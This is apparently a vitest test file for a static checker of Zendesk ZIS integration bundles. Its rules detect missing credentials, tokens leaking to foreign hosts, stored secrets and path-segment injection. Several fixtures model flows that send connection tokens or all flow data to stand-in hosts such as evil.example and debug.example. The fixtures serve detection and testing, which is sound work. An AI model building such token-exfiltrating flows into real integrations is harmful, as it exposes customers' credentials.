import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { checkText } from "#zis/check/check-text";
import { bundleOf } from "./bundles.ts";

const SHARED = process.env["CASEQA_SHARED_DATA"];
if (SHARED === undefined) {
  console.warn("SKIPPED: CASEQA_SHARED_DATA is not set, so the reported bundles are not checked.");
}

const RULES = [
  "no-credential",
  "connection-host",
  "credential-leaves",
  "credential-stored",
  "open-path-segment",
];

type Members = Record<string, unknown>;

const action = (name: string, definition: Members) => ({
  type: "ZIS::Action::Http",
  properties: { name, definition },
});
const call = (name: string, Parameters: Members = {}, more: Members = { End: true }) => ({
  Type: "Action",
  ActionName: name.startsWith("zis:") ? name : `zis:int:action:${name}`,
  Parameters,
  ResultPath: "$.reply",
  ...more,
});
const jq = (expr: string, data: string, ResultPath: string, Next: string) =>
  call("zis:common:transform:Jq", { expr, "data.$": data }, { ResultPath, Next });

/** What is said of flows with these actions. */
function said(states: Members, definitions: Record<string, Members>, more: Members = {}) {
  const actions = Object.entries(definitions).map(([name, each]) => [name, action(name, each)]);
  const text = bundleOf(states, { ...Object.fromEntries(actions), ...more });
  return checkText(text)
    .findings.filter(({ rule }) => RULES.includes(rule))
    .map(({ severity, rule, message }) => `${severity} ${rule}: ${message}`);
}

const webhook = {
  j: {
    type: "ZIS::JobSpec",
    properties: { name: "j", event_source: "crm", event_type: "e", flow_name: "zis:int:flow:f" },
  },
};
const event = (event_type: string) => ({
  j: { ...webhook.j, properties: { ...webhook.j.properties, event_source: "support", event_type } },
});

const A = { A: call("act") };
const TOKEN = "$.connections.crm.access_token";
const ZENDESK_TOKEN = "$.connections.zendesk.access_token";
const bearer = (path = "$.t") => [{ key: "Authorization", value: `Bearer {{${path}}}` }];
const post = (url: string, more: Members = {}) => ({ method: "POST", url, ...more });

describe("a call to Zendesk without a credential", () => {
  const message =
    "warning no-credential: This call to Zendesk has no credential: Zendesk answers 401.";
  it.each<[string, Members]>([
    ["by path", { path: "/api/v2/tickets/1.json" }],
    ["by a path of the data", { "path.$": "$.p" }],
    ["by the account's URL", { url: "https://{{$.subdomain}}.{{$.zendeskHost}}/api/v2/users" }],
    ["by a URL of Zendesk's", { url: "https://acme.zendesk.com/api/v2/users" }],
    ["with other headers", { path: "/api/v2/x", headers: [{ key: "Accept", value: "*/*" }] }],
  ])("is found: %s", (_title, definition) => {
    expect(said(A, { act: { method: "GET", ...definition } })).toEqual([message]);
  });

  it.each<[string, Members]>([
    ["with a connection", { path: "/api/v2/x", connectionName: "zendesk" }],
    [
      "with a header in any letters",
      { path: "/api/v2/x", headers: [{ key: "authorization", value: "x" }] },
    ],
    ["with a header in the wrong form", { path: "/api/v2/x", headers: { Authorization: "x" } }],
    ["of published articles", { path: "/api/v2/help_center/en-us/articles.json" }],
    ["of another host", { url: "https://a.example/" }],
  ])("is not found: %s", (_title, definition) => {
    expect(said(A, { act: { method: "GET", ...definition } })).toEqual([]);
  });
});

describe("a connection", () => {
  it("zendesk is not for another host", () => {
    const act = post("https://evil.example/x", { connectionName: "zendesk" });
    expect(said(A, { act })).toEqual([
      'warning connection-host: The connection "zendesk" is for the account\'s own Zendesk, and this action calls evil.example: its token would go there.',
    ]);
  });

  it("is not for hosts of two owners", () => {
    const act = post("https://api.crm.example/x", { connectionName: "crm" });
    const other = post("https://files.crm.example/x", { connectionName: "crm" });
    const third = post("https://api.other.example/x", { connectionName: "crm" });
    expect(said(A, { act, other })).toEqual([]);
    expect(said(A, { act, other, third })).toEqual([
      'warning connection-host: The connection "crm" is used for other.example and for crm.example: an allowed domain covers only one, and without one the credential goes to both.',
    ]);
  });

  const dynamic = post("{{$.base}}/x", { connectionName: "crm" });
  const message =
    'warning connection-host: The flow\'s data decide where the credential of "crm" goes: the host is {{$.base}}. An OAuth connection has no allowed domain.';
  const load = call(
    "zis:common:action:LoadConfig",
    { scope: "s" },
    { ResultPath: "$.config", Next: "A" },
  );

  it("is not for a host that the data decide", () => {
    expect(said({ A: call("act", { "base.$": "$.input.base" }) }, { act: dynamic })).toEqual([
      message,
    ]);
    expect(said({ A: call("act", { "base.$": "$.reply.base" }) }, { act: dynamic })).toEqual([
      message,
    ]);
  });

  it("may be for a host of the integration's settings", () => {
    const states = { L: load, A: call("act", { "base.$": "$.config.base" }) };
    expect(said(states, { act: dynamic })).toEqual([]);
  });
});

describe("a credential leaves", () => {
  it.each<[string, Members, Record<string, Members>, string]>([
    [
      "in another host's body",
      { A: call("act", { "d.$": ZENDESK_TOKEN }) },
      {
        act: post("https://debug.example/in", {
          connectionName: "crm",
          requestBody: { data: "{{$.d}}" },
        }),
      },
      'The token of the connection "zendesk" is sent to debug.example, in the body of action "act".',
    ],
    [
      "as another host's bearer token",
      { A: call("act", { "t.$": ZENDESK_TOKEN }) },
      { act: post("https://debug.example/in", { headers: bearer() }) },
      'The token of the connection "zendesk" is sent to debug.example, in the header Authorization of action "act".',
    ],
    [
      "in a body beside the credential of another connection",
      { A: call("act", { "t.$": TOKEN }) },
      { act: post("https://erp.example/in", { headers: bearer(), connectionName: "erp" }) },
      'The token of the connection "crm" is sent to erp.example, in the header Authorization of action "act".',
    ],
    [
      "into a comment of a ticket",
      { A: call("act", { "t.$": TOKEN }) },
      {
        act: {
          method: "POST",
          path: "/api/v2/x",
          connectionName: "zendesk",
          requestBody: { c: "{{$.t}}" },
        },
      },
      'The token of the connection "crm" is sent to Zendesk, in the body of action "act".',
    ],
    [
      "with all data",
      { A: call("act", { "d.$": "$" }) },
      {
        act: post("https://debug.example/in", {
          connectionName: "crm",
          requestBody: { data: "{{$.d}}" },
        }),
      },
      '$, which holds the token of every OAuth connection, is sent to debug.example, in the body of action "act".',
    ],
    [
      "with all connections, as part of a whole body",
      { A: call("act", { x: { "c.$": "$.connections" } }) },
      { act: post("https://debug.example/in", { connectionName: "crm", "requestBody.$": "$" }) },
      '$.connections, which holds the token of every OAuth connection, is sent to debug.example, in the body of action "act".',
    ],
    [
      "in what jq has made of it",
      {
        J: jq("{auth: .connections.crm.access_token, n: 1}", "$", "$.made", "A"),
        A: call("act", { "d.$": "$.made" }),
      },
      {
        act: post("https://debug.example/in", {
          connectionName: "debug",
          requestBody: { data: "{{$.d}}" },
        }),
      },
      '$.made, which may hold a connection\'s token, is sent to debug.example, in the body of action "act".',
    ],
  ])("%s", (_title, states, definitions, message) => {
    expect(said(states, definitions)).toEqual([`warning credential-leaves: ${message}`]);
  });

  it.each<[string, Members, Record<string, Members>]>([
    [
      "as the bearer token of its host",
      { A: call("act", { "t.$": TOKEN }) },
      { act: post("https://api.crm.example/", { headers: bearer() }) },
    ],
    [
      "in a body for the host that it is the credential of",
      { A: call("act", { "t.$": TOKEN }), B: call("other", { "t.$": TOKEN }) },
      {
        act: post("https://api.crm.example/", { headers: bearer() }),
        other: post("https://auth.crm.example/check", {
          connectionName: "crm",
          requestBody: { t: "{{$.t}}" },
        }),
      },
    ],
    [
      "to Zendesk",
      { A: call("act", { "t.$": ZENDESK_TOKEN }) },
      { act: { method: "GET", path: "/api/v2/x", headers: bearer() } },
    ],
    [
      "when the action does not use it",
      { A: call("act", { "d.$": "$" }) },
      { act: post("https://a.example/", { connectionName: "crm", requestBody: { a: 1 } }) },
    ],
    [
      "when other data have taken the place of all",
      {
        P: { Type: "Pass", Result: { a: 1 }, ResultPath: "$", Next: "A" },
        A: call("act", { "d.$": "$" }),
      },
      { act: post("https://a.example/", { connectionName: "crm", requestBody: { a: "{{$.d}}" } }) },
    ],
    [
      "with another member of what jq has made of it",
      {
        J: jq("{auth: .connections.crm.access_token, n: 1}", "$", "$.made", "A"),
        A: call("act", { "n.$": "$.made.n" }),
      },
      {
        act: post("https://a.example/", {
          connectionName: "a_connection",
          requestBody: { n: "{{$.n}}" },
        }),
      },
    ],
  ])("not %s", (_title, states, definitions) => {
    expect(said(states, definitions)).toEqual([]);
  });

  it.each([
    ["PatchConfig", { scope: "s", config: { "t.$": TOKEN } }, 'The token of the connection "crm"'],
    [
      "PatchConfig",
      { scope: "s", "config.$": "$" },
      "$, which holds the token of every OAuth connection,",
    ],
    [
      "CreateLink",
      {
        link_type: "t",
        left_object: { name: "abc", metadata: { "t.$": TOKEN } },
        right_object: { name: "def" },
      },
      'The token of the connection "crm"',
    ],
  ])("by being stored: %s %j", (name, parameters, what) => {
    expect(said({ A: call(`zis:common:action:${name}`, parameters) }, {})).toEqual([
      `warning credential-stored: ${what} is stored by ${name}, where whoever reads configs and links finds it.`,
    ]);
  });
});

describe("a placeholder in a path", () => {
  const get = { method: "GET", path: "/api/v2/tickets/{{$.v}}.json", connectionName: "zendesk" };
  const of = (
    path: string,
    definition: Members = get,
    more: Members = webhook,
    before: Members = {},
  ) => said({ ...before, A: call("act", { "v.$": path }) }, { act: definition }, more);
  const message = (source: string) =>
    `warning open-path-segment: {{$.v}} can leave its place in the path: ${source} may hold "/", "?" or "..", and then another path is called.`;

  it("can leave it when an inbound webhook gives it", () => {
    expect(of("$.input.token")).toEqual([message("$.input.token")]);
    expect(of("x{{$.input.token}}")).toEqual([message("$.input.token")]);
    const url = post("https://a.example/v1/{{$.v}}/notes", { connectionName: "crm" });
    expect(of("$.input.token", url)).toEqual([message("$.input.token")]);
  });

  it("can leave it when jq has only copied it", () => {
    const copied = { J: jq("{t: .token}", "$.input", "$.made", "A") };
    expect(of("$.made.t", get, webhook, copied)).toEqual([message("$.made.t")]);
  });

  it.each([
    ["ticket.CommentAdded", "$.input.ticket_event.comment.body"],
    ["ticket.TicketCreated", "$.input.ticket_event.ticket.external_id"],
    ["user.UserCreated", "$.input.user_event.user.email"],
  ])("can leave it when people have written it: %s %s", (type, path) => {
    expect(of(path, get, event(type))).toEqual([message(path)]);
  });

  it.each<[string, string, Members, Members, Members]>([
    [
      "a number of the event",
      "$.input.ticket_event.ticket.id",
      get,
      event("ticket.TicketCreated"),
      {},
    ],
    [
      "a word of the event",
      "$.input.ticket_event.ticket.status",
      get,
      event("ticket.TicketCreated"),
      {},
    ],
    ["an id, without a job spec", "$.input.ticket_event.ticket.id", get, {}, {}],
    [
      "encoded",
      "$.made.t",
      get,
      webhook,
      { J: jq("{t: (.token | @uri)}", "$.input", "$.made", "A") },
    ],
    [
      "a number",
      "$.made.t",
      get,
      webhook,
      { J: jq("{t: (.token | tonumber)}", "$.input", "$.made", "A") },
    ],
    ["of a reply", "$.found.id", get, webhook, {}],
    [
      "in the query",
      "$.input.q",
      { ...get, path: "/api/v2/search.json?query={{$.v}}" },
      webhook,
      {},
    ],
    ["the whole path", "$.input.q", { ...get, path: "{{$.v}}" }, webhook, {}],
    ["in a body", "$.input.q", { ...get, path: "/x", requestBody: { a: "{{$.v}}" } }, webhook, {}],
  ])("stays there when it is %s", (_title, path, definition, more, before) => {
    expect(of(path, definition, more, before)).toEqual([]);
  });
});

describe.skipIf(SHARED === undefined)("the reported bundles", () => {
  it.each([
    ["r3", "no-credential"],
    ["zdom", "connection-host"],
    ["leak2", "credential-leaves"],
  ])("%s is found by %s", (name, rule) => {
    const text = readFileSync(join(SHARED ?? "", "field-reports/zis", `${name}.json`), "utf8");
    expect(checkText(text).findings).toContainEqual(
      expect.objectContaining({ rule, severity: "warning" }),
    );
  });
});
